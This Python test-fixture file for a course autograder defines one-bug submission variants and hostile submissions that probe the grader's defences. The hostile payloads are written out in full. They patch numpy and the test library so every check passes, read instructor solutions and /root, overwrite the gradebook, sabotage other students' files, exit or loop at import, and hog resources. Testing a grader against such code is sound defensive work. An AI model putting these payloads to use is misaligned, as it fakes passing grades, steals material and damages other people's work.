"""Submissions that probe the grader: one-bug samples and hostile ones.

Each Variant says which grade ids it must lose (``breaks``); a variant on
the 'untouched' base must score 0 on every code test. Hostile code is
appended to a module, so it runs when the worker imports that module.
"""
from cs231n_lite.selfcheck import REGISTRY
from grading.release.samples import DEFAULT_STUDENTS, VARIANTS, Append, Edit, Tamper, Variant


def tests_of(module):
    """Grade ids of every graded function defined in one module."""
    return tuple(s.grade_id for s in REGISTRY.values() if s.module == module)


ONE_BUG = {
    "bug_sigmoid_forward": Variant(
        "sigmoid_forward with the sign of the exponent flipped for x >= 0", "reference",
        (Edit("cs231n_lite/layers.py", "    out[positive] = 1.0 / (1.0 + np.exp(-x[positive]))\n",
              "    out[positive] = 1.0 / (1.0 + np.exp(x[positive]))\n"),),
        breaks=("test_sigmoid_forward",)),
    "bug_tanh_forward": Variant(
        "tanh_forward returns sigmoid: lsuv_init (which needs tanh layers) must keep its points",
        "reference", (Edit("cs231n_lite/layers.py", "    out = np.tanh(x)\n", "    out = 1 / (1 + np.exp(-x))\n"),),
        breaks=("test_tanh_forward",)),
    "bug_he_init": Variant(
        "he_init without its factor 2", "reference",
        (Edit("cs231n_lite/init.py",
              "    w = rng.standard_normal((fan_in, fan_out)) * np.sqrt(2.0 / fan_in)\n",
              "    w = rng.standard_normal((fan_in, fan_out)) * np.sqrt(1.0 / fan_in)\n"),),
        breaks=("test_he_init",)),
    "bug_batchnorm_forward": Variant(
        "batchnorm_forward without eps: the spatial batchnorm tests must keep their points",
        "reference", (Edit("cs231n_lite/normalization.py", "        inv_std = 1.0 / np.sqrt(var + eps)\n",
                           "        inv_std = 1.0 / np.sqrt(var)\n"),),
        breaks=("test_batchnorm_forward",)),
    "bug_subtract_mean": Variant(
        "subtract_mean refits the mean on its input", "reference",
        (Edit("cs231n_lite/preprocess.py", "    out = X - mean\n", "    out = X - X.mean(axis=0)\n"),),
        breaks=("test_subtract_mean",)),
}

# A no-op object: every attribute is a function that does nothing.
REBIND_TESTS = ("print('REBOUND')\nclass _Pass:\n    def __getattr__(self, name):\n        return lambda *a, **k: None\n"
                "tests = _Pass()\n")

# Replace the test library's comparisons and numpy's, make every layer return junk.
PATCH_EVERYTHING = '''
import builtins, numpy
builtins.AssertionError = type("AssertionError", (Exception,), {})
numpy.allclose = lambda *a, **k: True
numpy.isfinite = lambda x, *a, **k: numpy.ones(numpy.shape(x), bool)
try:
    import cs231n_lite.selfcheck.feedback as _fb
    _fb.expect_array = lambda *a, **k: None
    _fb.expect_gradients = lambda *a, **k: None
    _fb.expect_outputs = lambda name, result, names: tuple(result)
    _fb.CheckFailed = type("CheckFailed", (Exception,), {})
except Exception:
    pass
for _name in list(globals()):
    if _name.endswith(("_forward", "_backward")):
        globals()[_name] = lambda *a, **k: ("all good", "all good", "all good")
'''

# Take the instructor's solutions, hidden material and gradebook by path.
STEAL = '''
import glob, os, sqlite3
_found = []
for _pattern in ["{repo}/cs231n_lite/layers.py", "{course}/instructor/lib/cs231n_lite/layers.py",
                 "{course}/instructor/secret", "{course}/source/*/cs231n_lite/layers.py",
                 "{course}/autograded/*/part1/cs231n_lite/layers.py",
                 "{course}/submitted/reference/part1/cs231n_lite/layers.py", "/root/*"]:
    for _path in glob.glob(_pattern):
        try:
            with open(_path) as _f:
                _text = _f.read()
            _found.append(_path)
            if _path.endswith("layers.py") and "NotImplementedError(" not in _text:
                exec(compile(_text, "stolen", "exec"), globals())
        except Exception:
            pass
try:
    _db = sqlite3.connect("{course}/gradebook.db")
    _db.execute("UPDATE grade SET auto_score = 1000")
    _db.commit()
except Exception:
    pass
for _target in ["{course}/source/part1/cs231n_lite/layers.py",
                "{course}/submitted/reference/part1/cs231n_lite/layers.py",
                "{course}/autograded/reference/part1/cs231n_lite/layers.py"]:
    try:
        with open(_target, "a") as _f:
            _f.write("\\nraise SystemExit('sabotaged by another student')\\n")
    except Exception:
        pass
try:
    with open("{course}/PWNED", "w") as _f:
        _f.write("\\n".join(_found))
except Exception:
    pass
'''

DETACHED_CHILD = '''
import subprocess as _sp
try:
    _sp.Popen(["sleep", "3141"], start_new_session=True, stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
except Exception:
    pass
'''

HOSTILE = {
    "rebinds_tests": Variant(
        "untouched stubs; the setup cell rebinds `tests` to a no-op object", "untouched",
        tamper=(Tamper("setup", text=REBIND_TESTS),)),
    "patches_at_import": Variant(
        "untouched stubs; layers.py patches numpy, AssertionError and the test library at import "
        "and makes every layer return junk", "untouched",
        (Append("cs231n_lite/layers.py", PATCH_EVERYTHING),)),
    "steals_and_sabotages": Variant(
        "untouched stubs; layers.py reads the reference, the secret and other students' files by "
        "path, writes the gradebook, the source and another student's folder", "untouched",
        (Append("cs231n_lite/layers.py", STEAL),)),
    "exits_at_import": Variant(
        "correct code, but init.py calls sys.exit and preprocess.py os._exit at import", "reference",
        (Append("cs231n_lite/init.py", "import sys\nsys.exit(0)"),
         Append("cs231n_lite/preprocess.py", "import os\nos._exit(3)")),
        breaks=tests_of("init") + tests_of("preprocess")),
    "loops_at_import": Variant(
        "correct code, but normalization.py loops forever at import", "reference",
        (Append("cs231n_lite/normalization.py", "while True:\n    pass"),),
        breaks=tests_of("normalization")),
    "floods_output": Variant(
        "correct code that prints 200,000 lines to stdout and stderr on every relu_forward call",
        "reference",
        (Edit("cs231n_lite/layers.py", "    out = np.maximum(0, x)\n",
              "    import sys\n    for _ in range(100000):\n        print('debug', x.shape)\n"
              "        print('warning', file=sys.stderr)\n    out = np.maximum(0, x)\n"),),
        breaks=()),
    "forks_and_hogs": Variant(
        "correct code, but preprocess.py starts a detached child at import and fit_mean "
        "allocates 4 GiB", "reference",
        (Append("cs231n_lite/preprocess.py", DETACHED_CHILD),
         Edit("cs231n_lite/preprocess.py", "    mean = X.mean(axis=0, dtype=np.float64)\n",
              "    hog = np.ones(2 ** 29)\n    mean = X.mean(axis=0, dtype=np.float64) + 0 * hog[0]\n")),
        breaks=("test_fit_mean",)),
    "tampers_metadata": Variant(
        "relu_backward's bug, plus notebook tampering: raised points, a renamed grade id, a "
        "grade cell turned into markdown, a rewritten grade cell, a deleted one", "reference",
        VARIANTS["seeded_bug"].edits,
        breaks=("test_relu_backward",),
        delete_cells=("test_fit_mean",),
        tamper=(Tamper("points", "test_relu_backward"), Tamper("rename", "test_sigmoid_forward"),
                Tamper("retype", "test_tanh_forward"), Tamper("rewrite", "test_relu_backward"),
                Tamper("points", "test_xavier_init"))),
}

ALL_VARIANTS = {**{s: VARIANTS[s] for s in DEFAULT_STUDENTS}, **ONE_BUG, **HOSTILE}
